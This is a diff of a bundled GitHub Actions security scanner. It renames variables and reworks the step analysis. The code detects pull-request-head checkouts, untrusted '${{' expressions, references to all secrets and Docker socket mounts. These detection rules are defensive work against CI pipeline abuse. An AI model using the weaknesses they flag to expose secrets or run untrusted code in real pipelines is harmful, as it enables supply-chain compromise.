-  for (let i = text3.indexOf("\n"); i >= 0 && i < offset; i = text3.indexOf("\n", i + 1)) line++;
-  return line;
-}
-function confirmed(out, pointer, line) {
-  const located = out.document.locate(pointer, line);
-  return (out.lines()[located.start.line - 1] ?? "").includes("${{");
-}
-function namesAllSecrets(values) {
-  return strings(values).some((text3) => textReferences(text3).includes("secrets"));
-}
-
-// src/subjects/workflow-expressions.ts
-function namesPrHead(text3) {
-  return /\$\{\{|refs\/pull\/|\bpull\/[^/\s]+\/(?:head|merge)/.test(text3);
-}
-
 // src/documents/workflow-run-script.ts
 var COMPOSE_RUNS = /* @__PURE__ */ new Set(["up", "run", "create", "start", "restart", "build", "exec", "watch"]);
 function emitRunScript(out, stepName, pointer, script, context) {
@@ -59736,12 +57145,12 @@ function emitRunScript(out, stepName, pointer, script, context) {
   };
   let cwd = context.cwd;
   for (const command of splitShellCommands(script)) {
-    const line = lineOf2(script, command.offset);
-    const anchors = confirmed2(out, pointer, line, command.name) ? [{ path: "", pointer, line }] : [];
+    const line = lineOf(script, command.offset);
+    const anchors = confirmed(out, pointer, line, command.name) ? [{ path: "", pointer, line }] : [];
     const docker = readDockerCommand(command.name, command.args);
     const value = commandValue(command, context.origin, docker);
     out.emit("command", uniqueName(`${stepName}/${command.name}`), pointer, value, anchors);
-    if (command.name === "cd" || command.name === "pushd") cwd = changeDirectory2(cwd, command.args);
+    if (command.name === "cd" || command.name === "pushd") cwd = changeDirectory(cwd, command.args);
     if (isPrHeadCheckout(command)) facts.checksOutPrHead = true;
     if (!docker) continue;
     collectFiles(docker, cwd, facts);
@@ -59760,17 +57169,17 @@ function commandValue(command, origin, docker) {
     ...docker ? { docker } : {}
   };
 }
-function lineOf2(script, offset) {
+function lineOf(script, offset) {
   let line = 0;
   for (let i = script.indexOf("\n"); i >= 0 && i < offset; i = script.indexOf("\n", i + 1)) line++;
   return line;
 }
-function confirmed2(out, pointer, line, name) {
+function confirmed(out, pointer, line, name) {
   const located = out.document.locate(pointer, line);
   const program = name.slice(name.lastIndexOf("/") + 1);
   return (out.lines()[located.start.line - 1] ?? "").includes(program);
 }
-function changeDirectory2(cwd, args) {
+function changeDirectory(cwd, args) {
   const target = args.find((arg) => !/^-[LPe@]+$/.test(arg) && arg !== "--");
   if (target === void 0 || target === "-" || target.startsWith("~")) return "$UNKNOWN_DIRECTORY";
   return workspacePath(cwd, target);
@@ -59809,13 +57218,9 @@ function emitDockerRun(out, stepName, pointer, command, anchors, uniqueName) {
 
 // src/documents/workflow-steps.ts
 var POSIX_SHELLS = /* @__PURE__ */ new Set(["bash", "sh", "dash", "zsh", "ksh", "ash"]);
-var MAX_CHECKOUT_EVIDENCE = 3;
 function emitSteps(out, job, steps, stepsPointer, context) {
-  const facts = { builds: [], composeFiles: [], runsDocker: false };
+  const facts = { builds: [], composeFiles: [], checksOutPrHead: false, buildsPrHead: false };
   if (!Array.isArray(steps)) return facts;
-  const refs = [];
-  const checkouts = [];
-  let credentialPersisted = false;
   steps.forEach((raw, index) => {
     if (!isYamlMap(raw)) return;
     const pointer = joinPointer(stepsPointer, index);
@@ -59830,59 +57235,33 @@ function emitSteps(out, job, steps, stepsPointer, context) {
     }
     const workingDirectory = scalarText(raw["working-directory"]) ?? context.workingDirectory;
     if (workingDirectory !== void 0) value.workingDirectory = workingDirectory;
-    const cwd = workingDirectory === void 0 ? "" : workspacePath("", workingDirectory);
-    const posix6 = isPosixShell(value.shell ?? context.shell, context.windows);
-    const reading = value.run === void 0 ? void 0 : readScript(value.run, posix6, cwd);
-    if (reading) value.commands = reading.commands;
-    const { expansions, anchors } = stepExpansions(out, raw, value, pointer, context);
-    if (expansions.length) value.expansions = expansions;
-    if (namesAllSecrets([raw["run"], raw["with"], raw["env"]])) value.allSecrets = true;
-    const stepRefs = checkedOutRefs(value.uses, value.with, reading?.commands ?? []);
-    if (stepRefs.length) {
-      refs.push(...stepRefs);
-      if (checkouts.length < MAX_CHECKOUT_EVIDENCE) checkouts.push({ document: out.document, pointer, message: `the job checks out ${stepRefs.map((ref) => `\`${ref}\``).join(", ")} here` });
-    }
-    if (refs.length) value.checkedOutRefs = [...refs];
-    if (value.uses !== void 0 && actionName(value.uses) === "actions/checkout" && !/^\s*false\s*$/i.test(value.with["persist-credentials"] ?? "")) credentialPersisted = true;
-    if (credentialPersisted) value.credentialPersisted = true;
-    const buildContexts = [...reading?.buildContexts ?? [], ...value.uses === void 0 ? [] : buildPushActionContexts(value.uses, value.with)];
-    if (buildContexts.length) value.buildContexts = buildContexts;
-    const evidence = stepRefs.length === 0 && runsSomething(value) ? checkouts : [];
-    out.emit("workflow.step", name, pointer, value, anchors, evidence);
+    out.emit("workflow.step", name, pointer, value);
     let builds = [];
     let composeFiles = [];
     if (value.uses !== void 0) {
       emitUses(out, name, joinPointer(pointer, "uses"), value.uses, false);
+      if (checksOutPrHead(value.uses, value.with)) value.checksOutPrHead = true;
       builds = buildPushActionFiles(value.uses, value.with);
-      if (actionName(value.uses).startsWith("docker/")) facts.runsDocker = true;
     }
-    if (value.run !== void 0 && posix6) {
-      const script = emitRunScript(out, name, joinPointer(pointer, "run"), value.run, { origin: context.origin, cwd });
-      ({ builds, composeFiles } = script);
+    if (value.run !== void 0) {
+      const untrusted = untrustedExpressions(value.run);
+      if (untrusted.length) value.untrustedExpressions = untrusted;
+      if (isPosixShell(value.shell ?? context.shell, context.windows)) {
+        const cwd = workingDirectory === void 0 ? "" : workspacePath("", workingDirectory);
+        const script = emitRunScript(out, name, joinPointer(pointer, "run"), value.run, { origin: context.origin, cwd });
+        if (script.checksOutPrHead) value.checksOutPrHead = true;
+        ({ builds, composeFiles } = script);
+      }
     }
-    if (reading?.runsDocker) facts.runsDocker = true;
+    if (value.checksOutPrHead) facts.checksOutPrHead = true;
+    if (facts.checksOutPrHead) value.prHeadCheckedOut = true;
     if (builds.length) value.builds = builds;
     if (composeFiles.length) value.composeFiles = composeFiles;
     for (const path of builds) if (!facts.builds.includes(path)) facts.builds.push(path);
     for (const path of composeFiles) if (!facts.composeFiles.includes(path)) facts.composeFiles.push(path);
+    if (value.prHeadCheckedOut && (builds.length || composeFiles.length)) facts.buildsPrHead = true;
   });
   return facts;
-}
-function runsSomething(step) {
-  return step.run !== void 0 || step.uses !== void 0 && (step.uses.startsWith("./") || actionName(step.uses) === "docker/build-push-action");
-}
-function stepExpansions(out, raw, step, pointer, context) {
-  const scope = { env: [isYamlMap(raw["env"]) ? raw["env"] : {}, ...context.env], strategy: context.strategy };
-  const expansions = [];
-  const anchors = [];
-  const add = (input, text3, at) => {
-    const found = scriptExpansions(out, input, text3, at, scope, expansions.length);
-    expansions.push(...found.expansions);
-    anchors.push(...found.anchors);
-  };
-  if (step.run !== void 0) add("run", step.run, joinPointer(pointer, "run"));
-  if (step.uses !== void 0) for (const [input, text3] of Object.entries(step.with)) add(`${actionName(step.uses)}:${input}`, text3, joinPointer(pointer, "with", input));
-  return { expansions, anchors };
 }
 function emitUses(out, name, pointer, uses, isWorkflow) {
   const ref = parseActionRef(uses, isWorkflow);
@@ -59895,6 +57274,9 @@ function isPosixShell(shell, windows) {
   return POSIX_SHELLS.has(program.slice(program.lastIndexOf("/") + 1));
 }
 var actionName = (uses) => uses.split("@")[0].toLowerCase();
+function checksOutPrHead(uses, inputs) {
+  return actionName(uses) === "actions/checkout" && [inputs["ref"], inputs["repository"]].some((input) => input !== void 0 && namesPrHead(input));
+}
 function buildPushActionFiles(uses, inputs) {
   if (actionName(uses) !== "docker/build-push-action") return [];
   const file = inputs["file"]?.trim();
@@ -59904,12 +57286,6 @@ function buildPushActionFiles(uses, inputs) {
   if (/^[\w+-]+:\/\/|^git@/.test(context)) return [];
   const subdir = /^\{\{\s*defaultContext\s*\}\}(?::(.*))?$/.exec(context);
   return [inDirectory(workspacePath("", subdir ? subdir[1] ?? "." : context), "Dockerfile")];
-}
-function buildPushActionContexts(uses, inputs) {
-  if (actionName(uses) !== "docker/build-push-action") return [];
-  const context = inputs["context"]?.trim();
-  if (!context || /^[\w+-]+:\/\/|^git@|\{\{\s*defaultContext/.test(context)) return [];
-  return [workspacePath("", context)];
 }
 
 // src/documents/workflow-jobs.ts
@@ -59954,13 +57330,12 @@ function emitJobs(out, jobs, context) {
       triggers: context.triggers,
       ...shell !== void 0 ? { shell } : {},
       ...workingDirectory !== void 0 ? { workingDirectory } : {},
-      windows: runsOnWindows(raw["runs-on"]),
-      env: [isYamlMap(raw["env"]) ? raw["env"] : {}, context.env],
-      strategy: raw["strategy"]
+      windows: runsOnWindows(raw["runs-on"])
     });
     value.builds = facts.builds;
     value.composeFiles = facts.composeFiles;
-    if (facts.runsDocker) value.runsDocker = true;
+    if (facts.checksOutPrHead) value.checksOutPrHead = true;
+    if (facts.buildsPrHead) value.buildsPrHead = true;
   }
 }
 function runDefaults(raw) {
@@ -59997,18 +57372,13 @@ function emitWorkflow(out, root) {
   const on = root["on"];
   const value = {
     on: { events: triggerEvents(on), ...on !== void 0 ? { config: on } : {} },
-    env: stringMap(root["env"]),
-    inheritingJobs: inheritingJobs(root["jobs"])
+    env: stringMap(root["env"])
   };
   const name = scalarText(root["name"]);
   if (name !== void 0) value.name = name;
   if (root["permissions"] !== void 0) value.permissions = root["permissions"];
   out.emit("workflow", out.document.path, "", value);
-  emitJobs(out, root["jobs"], { triggers: value.on.events, defaults: runDefaults(root), env: isYamlMap(root["env"]) ? root["env"] : {} });
-}
-function inheritingJobs(jobs) {
-  if (!isYamlMap(jobs)) return [];
-  return Object.entries(jobs).flatMap(([id, job]) => isYamlMap(job) && job["permissions"] === void 0 ? [id] : []);
+  emitJobs(out, root["jobs"], { triggers: value.on.events, defaults: runDefaults(root) });
 }
 function triggerEvents(on) {
   if (typeof on === "string") return [on];
@@ -60018,7 +57388,7 @@ function triggerEvents(on) {
 function emitAction(out, root) {
   const runs = root["runs"];
   if (!isYamlMap(runs)) return;
-  emitSteps(out, "", runs["steps"], "/runs/steps", { origin: "action", triggers: [], windows: false, env: [] });
+  emitSteps(out, "", runs["steps"], "/runs/steps", { origin: "action", triggers: [], windows: false });
   const image = scalarText(runs["image"]);
   if (image?.startsWith("docker://")) {
     out.emit("image", "runs", "/runs/image", parseImageRef(image.slice("docker://".length), "action-runs"));
@@ -60459,7 +57829,7 @@ function runExplain(settings) {
 async function runDocs(settings) {
   const rules = [...packs2(settings.packs), CORE_PACK].flatMap((pack2) => pack2.rules);
   await mkdir(settings.out, { recursive: true });
-  await Promise.all(rules.map((rule) => writeFile(join5(settings.out, `${rule.id}.md`), formatRuleDoc(rule))));
+  await Promise.all(rules.map((rule) => writeFile(join4(settings.out, `${rule.id}.md`), formatRuleDoc(rule))));
   process.stderr.write(`Wrote ${rules.length} rule pages to ${settings.out}
 `);
   return 0;
@@ -60510,8 +57880,8 @@ var GitBlobReader = class {
   /** The blob's text, or null when the revision has no such file (or it is not a file). */
   read(spec) {
     if (this.#failed) return Promise.reject(this.#failed);
-    return new Promise((resolve8, reject) => {
-      this.#waiting.push({ resolve: resolve8, reject });
+    return new Promise((resolve7, reject) => {
+      this.#waiting.push({ resolve: resolve7, reject });
       this.#child.stdin.write(`${spec}
 `);
     });
@@ -60727,24 +58097,24 @@ function gitSource(root, base, head) {
 // src/pipeline/scan-pull-request.ts
 import { mkdir as mkdir2, mkdtemp, rm, writeFile as writeFile2 } from "node:fs/promises";
 import { tmpdir } from "node:os";
-import { dirname as dirname3, join as join10, relative as relative6, sep as sep4 } from "node:path";
+import { dirname as dirname3, join as join9, relative as relative6, sep as sep4 } from "node:path";
 
 // src/discover/working-tree.ts
 import { constants as constants2 } from "node:fs";
 import { open as open2, realpath as realpath4 } from "node:fs/promises";
-import { join as join8, resolve as resolve4 } from "node:path";
+import { join as join7, resolve as resolve3 } from "node:path";
 
 // src/discover/discover.ts
 import { isUtf8 as isUtf82 } from "node:buffer";
 import { constants } from "node:fs";
 import { open, realpath as realpath3 } from "node:fs/promises";
-import { posix as posix5, resolve as resolve3 } from "node:path";
+import { posix as posix5, resolve as resolve2 } from "node:path";
 
 // src/discover/git-files.ts
 import { isUtf8 } from "node:buffer";
 import { spawn as spawn2 } from "node:child_process";
 import { lstat } from "node:fs/promises";
-import { dirname as dirname2, join as join6 } from "node:path";
+import { dirname as dirname2, join as join5 } from "node:path";
 
 // src/discover/refusal.ts
 import { realpath, stat } from "node:fs/promises";
@@ -60786,7 +58156,7 @@ async function listGitFiles(root, realRoot, git2 = "git", timeoutMs = GIT_LIST_T
 }
 function runGit(git2, root, listArgs, timeoutMs) {
   const args = ["-c", "core.fsmonitor=false", "-c", "core.quotePath=false", "-C", root, "ls-files", "-z", ...listArgs];
-  return new Promise((resolve8) => {
+  return new Promise((resolve7) => {
     const child = spawn2(git2, args, {
       stdio: ["ignore", "pipe", "ignore"],
       env: { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_OPTIONAL_LOCKS: "0" }
@@ -60800,19 +58170,19 @@ function runGit(git2, root, listArgs, timeoutMs) {
     child.stdout.on("data", (chunk) => chunks.push(chunk));
     child.on("error", (error) => {
       clearTimeout(timer);
-      resolve8({ timedOut: false, why: error.code === "ENOENT" ? "git is not installed" : `git could not start (${error.code ?? error.message})` });
+      resolve7({ timedOut: false, why: error.code === "ENOENT" ? "git is not installed" : `git could not start (${error.code ?? error.message})` });
     });
     child.on("close", (code, signal) => {
       clearTimeout(timer);
-      if (timedOut) resolve8({ timedOut, why: `git ls-files took over ${timeoutMs / 1e3} s` });
-      else if (code !== 0) resolve8({ timedOut, why: signal ? `git ls-files was stopped (${signal})` : `git ls-files exited with status ${code}` });
-      else resolve8({ paths: splitNul(Buffer.concat(chunks)) });
+      if (timedOut) resolve7({ timedOut, why: `git ls-files took over ${timeoutMs / 1e3} s` });
+      else if (code !== 0) resolve7({ timedOut, why: signal ? `git ls-files was stopped (${signal})` : `git ls-files exited with status ${code}` });
+      else resolve7({ paths: splitNul(Buffer.concat(chunks)) });
     });
   });
 }
 async function insideGitMarker(realRoot) {
   for (let folder = realRoot; ; folder = dirname2(folder)) {
-    if (await lstat(join6(folder, ".git")).then(() => true, () => false)) return true;
+    if (await lstat(join5(folder, ".git")).then(() => true, () => false)) return true;
     if (dirname2(folder) === folder) return false;
   }
 }
@@ -60837,14 +58207,14 @@ async function gitCandidates(root, realRoot, listed, notices) {
       notices.push({ level: "warning", path, unread: true, message: `${path} was not read: its name is not valid UTF-8 (shown here with U+FFFD), so it cannot be named in a report. Rename it.` });
       return;
     }
-    const absolutePath = join6(root, path);
+    const absolutePath = join5(root, path);
     const info = await lstat(absolutePath).catch((error) => error);
     if (info instanceof Error) {
       if (info.code !== "ENOENT" && info.code !== "ENOTDIR") notices.push({ level: "warning", path, unread: true, message: `${path} could not be read (${info.code ?? info.message}); it was not scanned.` });
       return;
     }
     if (info.isFile()) {
-      candidates.push({ path, absolutePath, kind, size: info.size, realPath: join6(realRoot, path), viaLink: false });
+      candidates.push({ path, absolutePath, kind, size: info.size, realPath: join5(realRoot, path), viaLink: false });
     } else if (info.isSymbolicLink()) {
       const target = await resolveLink(absolutePath);
       if (!target) {
@@ -60866,10 +58236,10 @@ async function gitCandidates(root, realRoot, listed, notices) {
 
 // src/discover/walk.ts
 import { lstat as lstat2, readdir, readFile, realpath as realpath2, stat as stat2 } from "node:fs/promises";
-import { join as join7 } from "node:path";
+import { join as join6 } from "node:path";
 
 // src/discover/gitignore.ts
-var import_ignore2 = __toESM(require_ignore(), 1);
+var import_ignore = __toESM(require_ignore(), 1);
 var MAX_IGNORE_RULES = 5e3;
 function compileGitignore(text3, limit = MAX_IGNORE_RULES) {
   const rules = [];
@@ -60896,7 +58266,7 @@ function compileLine(line) {
   let rule;
   let source;
   try {
-    const matcher = (0, import_ignore2.default)({ ignorecase: false }).add(line);
+    const matcher = (0, import_ignore.default)({ ignorecase: false }).add(line);
     rule = matcher._rules?._rules?.[0];
     if (!rule) return void 0;
     if (!(rule.regex instanceof RegExp) || typeof rule.body !== "string") {
@@ -61020,10 +58390,10 @@ async function walk2(root, options, notices) {
     for (const entry of entries2) {
       if (SKIPPED_FOLDERS.has(entry.name)) continue;
       const path = folder.path === "" ? entry.name : `${folder.path}/${entry.name}`;
-      const absolutePath = join7(folder.absolutePath, entry.name);
+      const absolutePath = join6(folder.absolutePath, entry.name);
       if (entry.isDirectory()) {
         if (isIgnored(ignores, path, true)) continue;
-        await visit2({ path, absolutePath, ignores, viaLink: folder.viaLink }, join7(real, entry.name));
+        await visit2({ path, absolutePath, ignores, viaLink: folder.viaLink }, join6(real, entry.name));
       } else if (entry.isFile()) {
         const kind = classify(path);
         if (!kind && entry.name === ".env" && !isIgnored(ignores, path, false)) options.envFiles?.push(path);
@@ -61032,7 +58402,7 @@ async function walk2(root, options, notices) {
             (info) => info.size,
             () => void 0
           );
-          if (size !== void 0) candidates.push({ path, absolutePath, kind, size, realPath: join7(real, entry.name), viaLink: folder.viaLink });
+          if (size !== void 0) candidates.push({ path, absolutePath, kind, size, realPath: join6(real, entry.name), viaLink: folder.viaLink });
         }
       } else if (entry.isSymbolicLink()) {
         const target = await resolveLink(absolutePath);
@@ -61070,7 +58440,7 @@ var MAX_PATTERN_NOTICES = 5;
 async function withGitignore(folder, entries2, maxBytes, budget, notices) {
   if (!entries2.some((entry) => entry.name === ".gitignore" && entry.isFile())) return folder.ignores;
   const path = folder.path === "" ? ".gitignore" : `${folder.path}/.gitignore`;
-  const absolutePath = join7(folder.absolutePath, ".gitignore");
+  const absolutePath = join6(folder.absolutePath, ".gitignore");
   const info = await lstat2(absolutePath).catch(() => void 0);
   if (!info?.isFile()) return folder.ignores;
   if (info.size > maxBytes) {
@@ -61094,7 +58464,7 @@ async function withGitignore(folder, entries2, maxBytes, budget, notices) {
 var DEFAULT_MAX_FILE_BYTES = 1024 * 1024;
 async function discover(root, options = {}) {
   const maxFileBytes = options.maxFileBytes ?? DEFAULT_MAX_FILE_BYTES;
-  const absoluteRoot = resolve3(root);
+  const absoluteRoot = resolve2(root);
   const realRoot = await realpath3(absoluteRoot);
   const notices = [];
   const listing = options.git === false ? { kind: "none" } : await listGitFiles(absoluteRoot, realRoot, options.git, options.gitTimeoutMs);
@@ -61128,14 +58498,14 @@ async function discover(root, options = {}) {
   }
   files.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
   const said = /* @__PURE__ */ new Set();
-  const unique3 = notices.filter((notice) => {
+  const unique2 = notices.filter((notice) => {
     const key = `${notice.path ?? ""}\0${notice.message}`;
     if (said.has(key)) return false;
     said.add(key);
     return true;
   });
-  unique3.sort((a, b) => (a.path ?? "") < (b.path ?? "") ? -1 : (a.path ?? "") > (b.path ?? "") ? 1 : 0);
-  return { files, notices: unique3, envFiles: [...new Set(envFiles)].sort() };
+  unique2.sort((a, b) => (a.path ?? "") < (b.path ?? "") ? -1 : (a.path ?? "") > (b.path ?? "") ? 1 : 0);
+  return { files, notices: unique2, envFiles: [...new Set(envFiles)].sort() };
 }
 var ENCODING_BATCH = 32;
 async function candidatesFrom(listing, absoluteRoot, realRoot, maxFileBytes, notices, envFiles) {
@@ -61205,7 +58575,7 @@ function formatBytes(bytes) {
 
 // src/discover/working-tree.ts
 function workingTree(root, options = {}) {
-  const absoluteRoot = resolve4(root);
+  const absoluteRoot = resolve3(root);
   const maxBytes = options.maxFileBytes ?? DEFAULT_MAX_FILE_BYTES;
   let realRoot;
   const resolvedRoot = () => {
@@ -61223,7 +58593,7 @@ async function readInside(realRootPromise, root, path, maxBytes) {
   if (path.split("/").includes("..") || inSkippedFolder(path)) return refused("its path leaves the scanned folder or enters a skipped folder");
   let real;
   try {
-    real = await realpath4(join8(root, path));
+    real = await realpath4(join7(root, path));
   } catch (error) {
     const code = error.code;
     return code === "ENOENT" || code === "ENOTDIR" ? { missing: true } : refused(`it could not be resolved (${code ?? String(error)})`);
@@ -61297,24 +58667,24 @@ function compareWithBase(head, base) {
 }
 
 // src/select/config.ts
-import { join as join9, relative as relative5 } from "node:path";
+import { join as join8, relative as relative5 } from "node:path";
 
 // src/discover/checked-read.ts
 import { closeSync, constants as constants3, fstatSync, openSync, readFileSync as readFileSync2, realpathSync } from "node:fs";
-import { relative as relative4, resolve as resolve5, sep as sep3 } from "node:path";
+import { relative as relative4, resolve as resolve4, sep as sep3 } from "node:path";
 function readCheckedSync(root, file, maxBytes = 1024 * 1024) {
-  const absolute2 = resolve5(root, file);
+  const absolute2 = resolve4(root, file);
   let real;
   let realRoot;
   try {
     real = realpathSync(absolute2);
-    realRoot = realpathSync(resolve5(root));
+    realRoot = realpathSync(resolve4(root));
   } catch (error) {
     const code = error.code;
     if (code === "ENOENT" || code === "ENOTDIR") return { missing: true };
     return { refused: `${file} could not be resolved (${code ?? String(error)})` };
   }
-  const written = relative4(resolve5(root), absolute2);
+  const written = relative4(resolve4(root), absolute2);
   const writtenInside = !written.startsWith("..") && !written.startsWith(sep3);
   if (writtenInside) {
     const inside = real === realRoot || real.startsWith(realRoot + sep3);
@@ -61400,7 +58770,7 @@ var CONFIG_SCHEMA = {
 var DEFAULT_CONFIG_PATHS = [".github/containment.yml", ".github/containment.yaml"];
 function loadConfig(root, explicit) {
   if (typeof explicit === "object") return parseConfig(explicit.text, explicit.shown);
-  const candidates = explicit ? [explicit.startsWith("/") ? explicit : join9(root, explicit)] : DEFAULT_CONFIG_PATHS.map((p) => join9(root, p));
+  const candidates = explicit ? [explicit.startsWith("/") ? explicit : join8(root, explicit)] : DEFAULT_CONFIG_PATHS.map((p) => join8(root, p));
   let file;
   let text3 = "";
   for (const candidate of candidates) {
@@ -61562,7 +58932,7 @@ function verdict(findings, failOn, scope = "all") {
 }
 
 // src/pipeline/scan.ts
-import { resolve as resolve6 } from "node:path";
+import { resolve as resolve5 } from "node:path";
 
 // src/evaluate/inventory.ts
 var DOCKER_SOCKETS = /* @__PURE__ */ new Set(["/var/run/docker.sock", "/run/docker.sock"]);
@@ -61897,28 +59267,10 @@ function problem(ruleId, path, comment, message) {
   };
 }
 
-// src/pipeline/read-build-ignores.ts
-var MAX_IGNORE_FILES = 64;
-async function readBuildIgnores(tree, documents) {
-  const paths = /* @__PURE__ */ new Set();
-  for (const document of documents) {
-    if (document.kind !== "workflow" && document.kind !== "action") continue;
-    for (const subject of document.subjects) {
-      if (subject.type === "workflow.step") for (const path of buildIgnorePaths(subject.value)) paths.add(path);
-    }
-  }
-  const texts = /* @__PURE__ */ new Map();
-  for (const path of [...paths].slice(0, MAX_IGNORE_FILES)) {
-    const read = await tree.read(path);
-    if ("text" in read) texts.set(path, read.text);
-  }
-  return texts;
-}
-
 // src/pipeline/scan.ts
 var DEFAULT_FAIL_ON = "high";
 async function scan(options) {
-  const root = resolve6(options.root);
+  const root = resolve5(options.root);
   const config2 = stage("config", () => loadConfig(options.configRoot ?? root, options.config));
   const packs3 = stage("packs", () => withCustomPacks(loadBuiltinPacks(), options.packs ?? []));
   checkConfigNames(config2, packs3);
@@ -61930,8 +59282,7 @@ async function scan(options) {
   const tree = options.tree ?? workingTree(root);
   const notices = [];
   const { documents, incomplete: incomplete2 } = await stage("read+parse", () => readProject(tree, notices, options.budget));
-  const ignoreFiles = await readBuildIgnores(tree, documents);
-  const linked = stage("link", () => link(documents, ignoreFiles));
+  const linked = stage("link", () => link(documents));
   const selected = stage("evaluate+select", () => selectFindings([...evaluateTimed(linked, compiled2), ...incomplete2], config2));
   const known = /* @__PURE__ */ new Set([...PROBLEM_RULES.map((r) => r.id), ...packs3.flatMap((p) => p.rules.map((r) => r.id))]);
   const excluded = excludedPaths(config2);
@@ -61966,7 +59317,7 @@ function readBaseline(from, root) {
 }
 var MAX_BASELINE_BYTES = 64 * 1024 * 1024;
 function releaseDocuments() {
-  return new Promise((resolve8) => setImmediate(resolve8));
+  return new Promise((resolve7) => setImmediate(resolve7));
 }
 
 // src/pipeline/scan-pull-request.ts
@@ -61981,7 +59332,7 @@ var BaseUnreadable = class extends Error {
   name = "BaseUnreadable";
 };
 async function scanPullRequest(options) {
-  const temp = await mkdtemp(join10(tmpdir(), "containment-base-"));
+  const temp = await mkdtemp(join9(tmpdir(), "containment-base-"));
   let trusted;
   try {
     trusted = options.trustPrConfig ? { config: options.config, packs: options.packs, baseline: options.baseline } : await fromBase(options, temp);
@@ -62048,13 +59399,13 @@ async function fromBase(options, temp) {
   const packs3 = [];
   for (const [index, dir] of (options.packs ?? []).entries()) {
     const folder = repoPath(options.root, dir);
-    const target = join10(temp, `pack-${index}`, folder.split("/").pop() ?? "pack");
+    const target = join9(temp, `pack-${index}`, folder.split("/").pop() ?? "pack");
     await mkdir2(target, { recursive: true });
     for (const file of await options.source.listAt(folder)) {
       if (!/\.ya?ml$/.test(file)) continue;
       const text3 = await options.source.fileAt(file);
       if (text3 === null) continue;
-      const out = join10(target, file.slice(folder.length + 1));
+      const out = join9(target, file.slice(folder.length + 1));
       if (!out.startsWith(target + sep4)) continue;
       await mkdir2(dirname3(out), { recursive: true });
       await writeFile2(out, text3);
@@ -62080,7 +59431,7 @@ function decidingPathsChanged(options, changes) {
 }
 function configPathsOf(options) {
   if (typeof options.config === "string") return [repoPath(options.root, options.config)];
-  return DEFAULT_CONFIG_PATHS.map((path) => repoPath(options.root, join10(options.configRoot ?? options.root, path)));
+  return DEFAULT_CONFIG_PATHS.map((path) => repoPath(options.root, join9(options.configRoot ?? options.root, path)));
 }
 function repoPath(root, path) {
   return relative6(root, path).split(sep4).join("/");
@@ -62422,7 +59773,6 @@ var package_default = {
   },
   dependencies: {
     "@actions/core": "3.0.1",
-    "@actions/expressions": "0.3.61",
     "@actions/github": "9.1.1",
     "@octokit/plugin-retry": "8.1.1",
     "@octokit/plugin-throttling": "11.0.5",
@@ -62771,12 +60121,12 @@ function clean2(text3) {
 // src/report/write-output.ts
 import { constants as constants4 } from "node:fs";
 import { lstat as lstat3, mkdir as mkdir3, open as open3, realpath as realpath5, writeFile as writeFile3 } from "node:fs/promises";
-import { dirname as dirname4, isAbsolute as isAbsolute2, join as join11, relative as relative7, resolve as resolve7, sep as sep5 } from "node:path";
+import { dirname as dirname4, isAbsolute as isAbsolute2, join as join10, relative as relative7, resolve as resolve6, sep as sep5 } from "node:path";
 var OutputFileError = class extends UsageError {
   name = "OutputFileError";
 };
 async function writeOutputFile(path, content, confine) {
-  const target = resolve7(path);
+  const target = resolve6(path);
   try {
     if (confine === void 0) {
       await mkdir3(dirname4(target), { recursive: true });
@@ -62802,7 +60152,7 @@ async function writeConfined(target, content, confine) {
   const name = parts.pop() ?? "";
   let shown = "";
   for (const part of parts) {
-    folder = join11(folder, part);
+    folder = join10(folder, part);
     shown = shown === "" ? part : `${shown}/${part}`;
     const stats = await lstatOrUndefined(folder);
     if (stats === void 0) {
@@ -62816,7 +60166,7 @@ async function writeConfined(target, content, confine) {
     if (stats.isSymbolicLink()) throw refuse(`the folder '${shown}'`, "is a symbolic link");
     if (!stats.isDirectory()) throw refuse(`'${shown}'`, "is a file, not a folder");
   }
-  const file = join11(folder, name);
+  const file = join10(folder, name);
   const existing = await lstatOrUndefined(file);
   if (existing?.isSymbolicLink()) throw refuse(`the file '${relative7(root, target)}'`, "is a symbolic link");
   if (existing !== void 0 && !existing.isFile()) throw refuse(`'${relative7(root, target)}'`, "is not a regular file");
@@ -62833,7 +60183,7 @@ async function writeConfined(target, content, confine) {
   }
 }
 function containingRoot(path, roots) {
-  const inside = roots.map((root) => resolve7(root)).filter((root) => isInside(root, path));
+  const inside = roots.map((root) => resolve6(root)).filter((root) => isInside(root, path));
   return inside.sort((a, b) => b.length - a.length)[0];
 }
 function isInside(root, path) {
@@ -62966,8 +60316,8 @@ async function runInventory(settings) {
   await requireFolder(settings.root);
   const result = await scan({ root: settings.root, config: settings.config, packs: settings.packs });
   const view = inventoryView(result.inventory ?? { images: [], containers: [] });
-  const format2 = { text: formatInventoryText, json: formatInventoryJson, markdown: formatInventoryMarkdown }[settings.format];
-  process.stdout.write(format2(view));
+  const format = { text: formatInventoryText, json: formatInventoryJson, markdown: formatInventoryMarkdown }[settings.format];
+  process.stdout.write(format(view));
   return EXIT.pass;
 }
 async function runScan(settings) {
